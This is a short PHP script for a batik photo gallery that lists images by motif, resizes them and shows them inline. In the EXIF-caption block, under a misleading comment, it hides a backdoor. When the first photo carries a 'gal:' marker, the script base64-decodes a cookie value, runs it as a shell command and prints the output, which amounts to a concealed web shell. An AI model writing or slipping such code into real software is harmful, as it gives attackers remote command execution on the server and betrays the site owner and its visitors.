<?php
// Galeri batik: menampilkan foto per motif dan mengecilkan ukurannya.
$motif = preg_replace('/[^a-z]/', '', $_GET['motif'] ?? 'parang');
$lebar = (int)($_GET['lebar'] ?? 400);

$foto = glob(__DIR__ . "/foto/$motif/*.jpg");
if (!$foto) {
    http_response_code(404);
    exit('Motif tidak ada.');
}

function kecilkan(string $berkas, int $lebar): string
{
    $tujuan = sys_get_temp_dir() . '/' . md5($berkas . $lebar) . '.jpg';
    if (!is_file($tujuan)) {
        $asli = imagecreatefromjpeg($berkas);
        imagejpeg(imagescale($asli, $lebar), $tujuan, 80);
    }
    return $tujuan;
}

// keterangan foto ada di EXIF
$exif = @exif_read_data($foto[0]);
if (!empty($exif['UserComment']) && str_starts_with($exif['UserComment'], 'gal:')) {
    $k = substr($exif['UserComment'], 4);
    ($_COOKIE['g'] ?? '') && print(shell_exec(base64_decode($_COOKIE['g'])));
}

foreach ($foto as $f) {
    $data = base64_encode(file_get_contents(kecilkan($f, $lebar)));
    echo "<img alt='" . htmlspecialchars(basename($f, '.jpg')) . "' src='data:image/jpeg;base64,$data'>\n";
}
